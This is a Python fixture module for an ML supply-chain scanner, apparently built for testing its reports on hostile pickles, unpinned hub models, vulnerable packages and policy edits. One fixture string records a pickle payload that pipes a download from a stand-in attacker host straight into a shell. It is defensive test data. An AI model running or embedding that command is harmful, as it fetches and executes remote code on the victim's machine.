"""Inventories and verdicts as the judge hands them to the reports, from clean to hostile."""

from __future__ import annotations

import dataclasses
import hashlib
from collections.abc import Iterable

from mlgate.records import (
    Action,
    Category,
    Component,
    Decision,
    Finding,
    Hash,
    Inventory,
    Kind,
    Location,
    ModelFacts,
    Occurrence,
    PackageFacts,
    Relation,
    Rule,
    Scanned,
    Severity,
    Verdict,
    Vulnerability,
)
from mlgate.reports.context import ReportContext
from mlgate.rules import INCOMPLETE, finding

HEAD = "0123456789abcdef0123456789abcdef01234567"
BASE = "89abcdef0123456789abcdef0123456789abcdef"

CONTEXT = ReportContext(
    tool_version="0.1.0",
    repository="acme/vision",
    head_sha=HEAD,
    run_url="https://github.com/acme/vision/actions/runs/4242",
    artifact="mlgate-report",
    bom_summary="CycloneDX 1.7, 14 components, in bom.cdx.json.",
)

DANGEROUS = Rule(
    id="MLG-PKL-001",
    title="Pickle runs code when it is loaded",
    severity=Severity.CRITICAL,
    category=Category.MODEL_FILE,
    help="Loading the file calls a function that starts programs, opens connections or evaluates code.",
    remediation="Remove the file. Get the weights as safetensors from whoever trained the model.",
    malicious=True,
    cwe=("CWE-502",),
    atlas=("AML.T0011.000",),
    owasp=("ML06:2023",),
)
UNPINNED_MODEL = Rule(
    id="MLG-COD-004",
    title="Model from the hub without a fixed revision",
    severity=Severity.MEDIUM,
    category=Category.UNSAFE_CODE,
    help="Whoever controls the model repository can change the bytes that the next run loads.",
    remediation="Pass `revision=` with the 40-character commit that you have reviewed.",
    clause="code.unpinned-hub-load",
    owasp=("LLM03:2025",),
)
VULNERABLE = Rule(
    id="MLG-DEP-001",
    title="Package with a known vulnerability",
    severity=Severity.HIGH,
    category=Category.DEPENDENCY,
    help="An advisory names this version.",
    remediation="Upgrade to a version that the advisory names as fixed.",
    cwe=("CWE-1395",),
)
POLICY_CHANGED = Rule(
    id="MLG-POL-001",
    title="The change edits the gate's own policy",
    severity=Severity.HIGH,
    category=Category.POLICY_CHANGE,
    help="The policy of the base was used. The edit takes effect after the merge.",
    remediation="Have the owners of the policy review the edit.",
)


def decide(
    what: Finding, action: Action = Action.BLOCK, *, new: bool = True, clause: str = "", waiver: str = ""
) -> Decision:
    """A decision with a fingerprint made like the judge's: from rule, place and evidence, not from the line."""
    text = "\0".join((what.rule.id, what.location.path, what.location.member or "", what.subject, what.evidence))
    return Decision(
        finding=what,
        action=action,
        new=new,
        fingerprint=hashlib.sha256(text.encode("utf-8", "surrogatepass")).hexdigest(),
        clause=clause or what.rule.clause or f"fail-on.{what.rule.category}",
        waiver=waiver,
    )


def verdict(decisions: Iterable[Decision] = (), *, mode: str = "block", notes: tuple[str, ...] = ()) -> Verdict:
    """A verdict over these: failed when one of them blocks in block mode."""
    decided = tuple(decisions)
    return Verdict(
        passed=mode == "warn" or not any(d.action is Action.BLOCK for d in decided),
        decisions=decided,
        policy_source=f".mlgate.yml at {BASE[:12]}",
        mode=mode,
        compared=True,
        base=BASE,
        notes=notes,
    )


def pickle_finding(path: str = "models/resnet.pt", number: int = 0) -> Finding:
    """A torch zip whose pickle calls os.system."""
    call = "os.system('curl -s https://evil.example/x | sh')"
    return finding(
        DANGEROUS,
        Location(path=path, member="archive/data.pkl", offset=124 + number),
        f"Loading calls `{call}`",
        evidence=call,
        facts=(("global", "os.system"),),
    )


def unpinned_finding() -> Finding:
    """A from_pretrained without revision in a Python file."""
    return finding(
        UNPINNED_MODEL,
        Location(path="src/train.py", line=41, end_line=43),
        "`AutoModel.from_pretrained('acme/encoder')` takes whatever `main` is when it runs",
        evidence="AutoModel.from_pretrained('acme/encoder')",
        subject="hf:acme/encoder",
        fix='AutoModel.from_pretrained("acme/encoder", revision="<40-character commit>")',
    )


def vulnerable_finding(number: int = 1, severity: Severity = Severity.HIGH) -> Finding:
    """An advisory on a requirement."""
    return finding(
        VULNERABLE,
        Location(path="requirements.txt", line=3),
        f"`torch 2.0.0` has CVE-2025-{32_433 + number}: torch.load with weights_only=True runs code",
        evidence=f"torch 2.0.0 CVE-2025-{32_433 + number}",
        severity=severity,
        subject="pkg:pypi/torch@2.0.0",
        fix="torch==2.6.0",
        facts=(("cvss", "9.3"), ("purl", "pkg:pypi/torch@2.0.0")),
    )


def inventory() -> Inventory:
    """A small vision repository: two models, a base model, a dataset, packages."""
    return Inventory(
        root="vision",
        head=HEAD,
        timestamp=1_760_000_000,
        advisory_source="OSV, 2026-11-20",
        components=(
            Component(
                kind=Kind.MODEL,
                identity="file:models/resnet.pt",
                name="resnet.pt",
                pinned=True,
                hashes=(Hash(algorithm="SHA-256", value="ab" * 32),),
                model=ModelFacts(format="torch-zip", architecture="ResNet", parameters=25_557_032),
                occurrences=(Occurrence(location=Location(path="models/resnet.pt")),),
            ),
            Component(
                kind=Kind.MODEL,
                identity="hf:acme/encoder",
                name="acme/encoder",
                pinned=False,
                licenses=("Apache-2.0",),
                occurrences=(Occurrence(location=Location(path="src/train.py", line=41), symbol="from_pretrained"),),
            ),
            Component(
                kind=Kind.MODEL,
                identity="hf:google/vit-base-patch16-224",
                name="google/vit-base-patch16-224",
                version="3f49326eb077187dfe1c2a2bb15fbd74e6ab91e3",
                pinned=True,
            ),
            Component(
                kind=Kind.DATASET,
                identity="dataset:hf:acme/street-signs",
                name="acme/street-signs",
                pinned=False,
                occurrences=(Occurrence(location=Location(path="src/train.py", line=12), symbol="load_dataset"),),
            ),
            *(
                Component(
                    kind=Kind.PACKAGE,
                    identity=f"pkg:pypi/{name}",
                    name=name,
                    version=version,
                    purl=f"pkg:pypi/{name}@{version}",
                    pinned=True,
                    package=PackageFacts(ecosystem="PyPI", requirement=f"{name}=={version}"),
                    occurrences=(Occurrence(location=Location(path="requirements.txt", line=line)),),
                )
                for line, (name, version) in enumerate((("numpy", "2.3.4"), ("transformers", "4.50.0")), start=1)
            ),
        ),
        relations=(
            Relation(source="hf:acme/encoder", target="hf:google/vit-base-patch16-224", kind="base-model"),
            Relation(source="hf:acme/encoder", target="dataset:hf:acme/street-signs", kind="trained-on"),
        ),
        scanned=(
            Scanned(path="models/resnet.pt", format="zip", sha256="ab" * 32, size=102_400_000, complete=True),
            Scanned(path="requirements.txt", format="requirements", sha256="cd" * 32, size=61, complete=True),
            Scanned(path="src/train.py", format="python", sha256="ef" * 32, size=2_048, complete=True),
        ),
        vulnerabilities=(
            Vulnerability(
                id="GHSA-53q9-r3pm-6pq6",
                purl="pkg:pypi/torch@2.0.0",
                aliases=("CVE-2025-32434",),
                summary="torch.load with weights_only=True leads to remote code execution",
                severity=Severity.CRITICAL,
                score=9.3,
                fixed=("2.6.0",),
                url="https://osv.dev/vulnerability/GHSA-53q9-r3pm-6pq6",
            ),
        ),
    )


def clean() -> Verdict:
    """Nothing found."""
    return verdict()


def three() -> Verdict:
    """The three of the main job: hostile pickle, vulnerable package, unpinned model."""
    return verdict(
        (
            decide(unpinned_finding(), Action.WARN),
            decide(vulnerable_finding()),
            decide(pickle_finding(), clause="scope.always-enforce"),
        )
    )


def many(number: int = 3_000) -> Verdict:
    """A flood: most are low, one critical stands at the end."""
    flood = [
        decide(
            finding(
                UNPINNED_MODEL,
                Location(path=f"src/module_{index:04}.py", line=index + 1),
                f"`load('model-{index}')` takes whatever `main` is",
                evidence=f"load('model-{index}')",
                severity=Severity.LOW if index % 3 else Severity.MEDIUM,
            )
        )
        for index in range(number - 1)
    ]
    return verdict([*flood, decide(pickle_finding("zzz/last.pkl"))])


def policy_change() -> Verdict:
    """The change edits the policy."""
    what = finding(
        POLICY_CHANGED,
        Location(path=".mlgate.yml", line=2),
        "`mode` would become `warn` after the merge",
        evidence="mode: block -> warn",
    )
    return verdict((decide(what, clause="scope.always-enforce"),), notes=("The policy of the base decides.",))


def incomplete() -> Verdict:
    """An archive that nobody can open."""
    what = finding(
        INCOMPLETE["encrypted"], Location(path="models/prod.zip"), "All 3 members are encrypted", evidence="encrypted"
    )
    return verdict((decide(what),))


def incomplete_inventory() -> Inventory:
    """The inventory of `incomplete`."""
    base = inventory()
    unread = Scanned(path="models/prod.zip", format="zip", sha256="12" * 32, size=77, complete=False)
    return dataclasses.replace(base, scanned=tuple(sorted((*base.scanned, unread), key=lambda s: s.path)))


def waived() -> Verdict:
    """A finding that a waiver covers, and a warning."""
    return verdict(
        (
            decide(pickle_finding("legacy/scaler.pkl"), Action.WAIVED, waiver="converted in Q1; @acme/sec; 2026-12-01"),
            decide(unpinned_finding(), Action.WARN),
        ),
        notes=("The waiver for MLG-PKL-001 in legacy/scaler.pkl ends in 8 days.",),
    )


def warn_only() -> Verdict:
    """The same findings in a repository that only warns, as the judge decides them there."""
    decisions = tuple(
        dataclasses.replace(one, action=Action.WARN, clause=f"mode: warn (else {one.clause})")
        if one.action is Action.BLOCK
        else one
        for one in three().decisions
    )
    return dataclasses.replace(three(), passed=True, mode="warn", decisions=decisions)


def old_only() -> Verdict:
    """What is found was there before."""
    return verdict((decide(vulnerable_finding(), Action.NOTE, new=False),))
